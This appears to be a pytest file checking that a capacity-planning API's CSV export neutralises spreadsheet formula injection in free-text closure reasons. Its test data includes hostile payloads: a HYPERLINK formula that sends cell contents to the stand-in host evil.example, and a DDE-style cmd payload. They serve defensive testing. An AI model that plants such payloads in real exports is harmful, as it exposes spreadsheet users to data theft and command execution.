"""The capacity CSV is opened in spreadsheets: free text in it can never run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from api.views import FORMULA_STARTS, spreadsheet_safe
from tests.builders import auth

HOSTILE_REASONS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_that_starts_like_a_formula_is_quoted(start):
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_ordinary_text_are_left_alone():
    assert spreadsheet_safe(-1) == -1 and spreadsheet_safe(0.5) == 0.5
    assert spreadsheet_safe("cleanroom requalification") == "cleanroom requalification"


@pytest.mark.parametrize("reason", HOSTILE_REASONS)
def test_a_closure_reason_never_reaches_the_csv_as_a_formula(client, reason):
    day = "2027-03-10"
    closure = {
        "resource": "bed",
        "centre": "liverpool",
        "first_day": day,
        "last_day": day,
        "capacity": 9,
        "reason": reason,
    }
    made = client.post("/capacity/changes", json=closure, headers=auth(client, "lab_manager"))
    assert made.status_code == 201, made.text
    response = client.get(f"/capacity.csv?from={day}&to={day}&resource=bed", headers=auth(client, "lab_manager"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["note"] for r in rows] == ["'" + reason]
    for row in rows:
        assert not any(value.startswith(FORMULA_STARTS) for value in row.values() if value)
